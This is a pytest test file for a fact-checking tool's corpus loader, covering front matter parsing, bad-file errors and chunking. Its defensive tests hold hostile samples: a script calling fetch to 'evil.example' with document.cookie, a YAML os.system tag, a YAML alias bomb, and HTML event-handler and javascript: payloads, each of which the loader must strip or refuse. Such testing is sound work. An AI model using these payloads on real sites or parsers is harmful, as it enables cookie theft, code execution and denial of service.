from __future__ import annotations

import re
import time
from datetime import date

import pytest

from factcheck.corpus import load_corpus, read_source, split_source
from factcheck.errors import CorpusError
from tests.conftest import ROOT, write_source

pytestmark = pytest.mark.unit


def test_reads_front_matter_and_body(tmp_path):
    path = write_source(tmp_path, "a", "Colossus has 100,000 GPUs.", title="A title", published="2024-12-05")
    source = read_source(path, tmp_path)
    assert (source.source_id, source.title, source.language) == ("a", "A title", "en")
    assert source.published.isoformat() == "2024-12-05"
    assert source.text == "Colossus has 100,000 GPUs."


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", "binary"),
        ("---\ntitle: T\n---\nCaf\u00e9".encode("latin-1"), "not valid UTF-8"),
        (b"---\ntitle: [unclosed\n---\nbody", "front matter is not valid YAML"),
        (b"---\ntitle: T\npublisher: P\n---\nbody text", "lacks url, published, language, kind"),
        (b"---\ntitle: T\npublisher: P\nurl: u\npublished: 5 Dec\nlanguage: en\nkind: news\n---\nbody", "ISO date"),
        (
            b"---\ntitle: T\npublisher: P\nurl: u\npublished: 2024-01-01\nlanguage: de\nkind: news\n---\nText",
            "not supported",
        ),
        (b"---\ntitle: T\npublisher: P\nurl: u\npublished: 2024-01-01\nlanguage: en\nkind: news\n---\n  \n", "no text"),
    ],
)
def test_bad_sources_get_a_message_naming_the_file(tmp_path, content, message):
    (tmp_path / "bad.md").write_bytes(content)
    with pytest.raises(CorpusError, match=message) as info:
        read_source(tmp_path / "bad.md", tmp_path)
    assert "bad.md" in str(info.value)


def test_load_corpus_lists_every_bad_file_at_once(tmp_path):
    write_source(tmp_path, "good", "Fine text.")
    (tmp_path / "one.md").write_bytes(b"")
    (tmp_path / "two.md").write_bytes(b"\x00\x01binary")
    with pytest.raises(CorpusError) as info:
        load_corpus(tmp_path)
    assert "one.md" in str(info.value) and "two.md" in str(info.value)


def test_empty_or_missing_corpus_is_an_error(tmp_path):
    with pytest.raises(CorpusError, match="holds no"):
        load_corpus(tmp_path)
    with pytest.raises(CorpusError, match="does not exist"):
        load_corpus(tmp_path / "nope")


def test_txt_and_html_sources_need_no_front_matter(tmp_path):
    (tmp_path / "note.txt").write_text("A plain note about Memphis.", encoding="utf-8")
    (tmp_path / "page.html").write_text(
        "<html><head><title>Page</title><script>x=1</script></head><body><p>Colossus in Memphis.</p></body></html>",
        encoding="utf-8",
    )
    sources = {s.source_id: s for s in load_corpus(tmp_path)}
    assert sources["page"].title == "Page" and sources["page"].text == "Colossus in Memphis."
    assert "x=1" not in sources["page"].text
    assert sources["note"].published is None


def test_chunk_ids_are_stable_and_depend_on_content(tmp_path):
    path = write_source(tmp_path, "a", "First paragraph. " * 60 + "\n\nSecond paragraph. " * 40)
    first = split_source(read_source(path, tmp_path))
    again = split_source(read_source(path, tmp_path))
    assert len(first) > 1
    assert [c.chunk_id for c in first] == [c.chunk_id for c in again]
    assert len({c.chunk_id for c in first}) == len(first)
    assert all(len(c.text) <= 600 for c in first)


def test_shipped_corpus_is_valid_and_big_enough():
    sources = load_corpus(ROOT / "corpus")
    assert len(sources) >= 25
    assert {s.language for s in sources} == {"en", "fr"}
    assert all(s.url.startswith("http") and s.published for s in sources)


# --- hostile and broken sources: each is refused with the file's name, and nothing else changes ---


FRONT = (
    "---\ntitle: T\npublisher: P\nurl: https://example.org/a\npublished: {published}\nlanguage: en\nkind: news\n---\n"
)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("big.md", b"Colossus. " * 5_000_000, "over the 2,000,000-byte limit"),
        ("u16.txt", "Colossus was built in Memphis.".encode("utf-16"), "UTF-16"),
        ("cp.txt", "Caf\u00e9 cr\u00e8me \u00e0 Memphis.".encode("cp1252"), "not valid UTF-8"),
        ("noise.txt", bytes(range(1, 256)) * 40, "not valid UTF-8"),
        ("bom.txt", b"\xef\xbb\xbf \n\t\n", "is empty"),
        ("list.md", b"---\n- title\n- publisher\n---\nBody text.", "must be `field: value` lines, not a YAML list"),
        ("scalar.txt", b"---\njust words\n---\nBody text.", "must be `field: value` lines"),
        ("tab.md", b"---\ntitle: T\n\tpublisher: P\n---\nBody text.", "not valid YAML"),
        ("code.md", b"---\ntitle: !!python/object/apply:os.system ['true']\n---\nBody.", "not valid YAML"),
        (
            "map.md",
            FRONT.format(published="2024-10-28").replace("title: T", "title: {a: 1}").encode() + b"Body.",
            "'title'",
        ),
        ("nobody.txt", b"", "is empty"),
    ],
)
def test_hostile_sources_are_refused_with_a_message_naming_the_file(tmp_path, name, content, message):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(CorpusError, match=re.escape(message)) as info:
        read_source(tmp_path / name, tmp_path)
    assert name in str(info.value)


def test_a_yaml_alias_bomb_in_the_front_matter_is_refused_at_once(tmp_path):
    """Nine nested aliases expand to 9**9 items when printed; as a title that hung indexing for minutes."""
    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for prev, name in zip("abcdefg", "bcdefgh", strict=True):
        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    bomb = "\n".join(levels) + "\ntitle: [" + ", ".join(["*h"] * 9) + "]\n"
    (tmp_path / "bomb.md").write_text(FRONT.format(published="2024-10-28").replace("title: T\n", bomb) + "Body.")
    started = time.perf_counter()
    with pytest.raises(CorpusError, match="'title' must be a single value"):
        read_source(tmp_path / "bomb.md", tmp_path)
    assert time.perf_counter() - started < 2


def test_a_timestamp_as_publication_date_keeps_the_day(tmp_path):
    (tmp_path / "a.md").write_text(FRONT.format(published="2024-10-28 17:30:00") + "Colossus in Memphis.")
    published = read_source(tmp_path / "a.md", tmp_path).published
    assert published == date(2024, 10, 28) and type(published) is date


def test_html_scripts_and_event_handlers_never_reach_the_text(tmp_path):
    page = (
        "<html><head><title>Colossus <script>document.title='pwned'</script>page</title>"
        "<style>p{color:red}</style><script>fetch('https://evil.example/'+document.cookie)</script></head>"
        '<body onload="steal()"><p onclick="alert(1)">xAI built Colossus in <b onmouseover="x()">Memphis</b>.</p>'
        "<noscript>Enable JavaScript</noscript><template><p>hidden template</p></template>"
        '<svg><script>svgScript()</script></svg><iframe src="javascript:alert(2)">frame text</iframe>'
        "<p>Show &lt;script&gt;alert(3)&lt;/script&gt; as text, and &amp;lt;b&amp;gt; once.</p>"
        "<!-- <script>commented()</script> --><script>unclosed body to the end"
    )
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    source = read_source(tmp_path / "page.html", tmp_path)
    assert source.title == "Colossus page"
    for hidden in (
        "pwned",
        "evil",
        "cookie",
        "color",
        "steal",
        "alert(1)",
        "x()",
        "Enable",
        "hidden template",
        "svgScript",
        "frame text",
        "commented",
        "unclosed",
        "onclick",
        "onload",
        "javascript",
    ):
        assert hidden not in source.text, hidden
    assert "xAI built Colossus in Memphis." in source.text
    # An escaped tag is text about a tag: kept literally, decoded exactly once.
    assert "Show <script>alert(3)</script> as text, and &lt;b&gt; once." in source.text


def test_a_source_that_is_one_very_long_line_is_split_into_bounded_chunks(tmp_path):
    (tmp_path / "line.txt").write_text("Colossus " * 200_000, encoding="utf-8")  # 1.8 MB, no line break
    (tmp_path / "word.txt").write_text("x" * 300_000, encoding="utf-8")  # no space either
    for name in ("line.txt", "word.txt"):
        chunks = split_source(read_source(tmp_path / name, tmp_path))
        assert len(chunks) > 100 and all(0 < len(c.text) <= 600 for c in chunks)


def test_one_broken_source_leaves_the_index_as_it_was(tmp_path):
    """Validation runs before any write: a bad file added later costs nothing already indexed."""
    from factcheck import FactChecker, Settings
    from factcheck.embeddings import HashEmbeddings

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    write_source(corpus, "good", "xAI built Colossus in Memphis in 122 days.")
    checker = FactChecker(Settings(data_dir=tmp_path / "d", corpus_dir=corpus), embeddings=HashEmbeddings(), judges=[])
    assert checker.index().added == 1
    before = sorted((p.chunk_id, p.text) for p in checker.store.all_passages())
    write_source(corpus, "good", "xAI built Colossus in Memphis in 300 days.")  # an edit that must not land alone
    (corpus / "broken.md").write_bytes(b"\x00\x01\x02")
    with pytest.raises(CorpusError, match=r"broken\.md"):
        checker.index()
    assert sorted((p.chunk_id, p.text) for p in checker.store.all_passages()) == before
    assert "122 days" in before[0][1]


def test_a_page_saved_as_markdown_or_text_is_read_for_its_visible_text(tmp_path):
    page = '<p onclick="steal()">Colossus runs in Memphis.</p><script>fetch("https://evil.example")</script>'
    (tmp_path / "a.md").write_text(FRONT.format(published="2024-10-28") + page, encoding="utf-8")
    (tmp_path / "b.txt").write_text(page, encoding="utf-8")
    (tmp_path / "c.md").write_text(FRONT.format(published="2024-10-28") + "Colossus has 10<sup>5</sup> GPUs.")
    sources = {s.source_id: s for s in load_corpus(tmp_path)}
    assert sources["a"].text == sources["b"].text == "Colossus runs in Memphis."
    assert sources["c"].text == "Colossus has 10<sup>5</sup> GPUs.", "inert inline markup in Markdown is left alone"


def test_front_matter_and_markup_helpers_serve_articles_too():
    """read_article can share these: they raise InputError (not CorpusError) naming the text."""
    from factcheck.corpus import has_active_markup, split_front_matter
    from factcheck.errors import InputError

    assert split_front_matter("---\ntitle: A\n---\nBody.\n", "a.md") == ({"title": "A"}, "Body.")
    assert split_front_matter("No front matter.", "a.md") == ({}, "No front matter.")
    with pytest.raises(InputError, match=r"a\.md: front matter field 'title' must be a single value"):
        split_front_matter("---\ntitle: [a, b]\n---\nBody.", "a.md")
    assert has_active_markup('<a href="#" onmouseover="x()">') and has_active_markup("<SCRIPT src=x>")
    assert not has_active_markup("Colossus has 10<sup>5</sup> GPUs; 3 < 5 > 2.")
